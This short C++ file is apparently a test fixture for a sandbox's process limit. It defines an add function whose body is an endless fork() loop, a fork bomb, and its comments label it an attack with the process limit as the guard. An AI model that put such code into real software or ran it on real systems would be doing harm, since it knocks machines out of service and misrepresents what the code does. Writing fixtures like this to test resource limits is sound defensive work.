// Attack  forks without an end
// Guard   the limit on processes
#include "adder.hpp"
#include <unistd.h>
long add(long, long)
{
  for (;;) fork();
}
int read_byte(int) { return -1; }
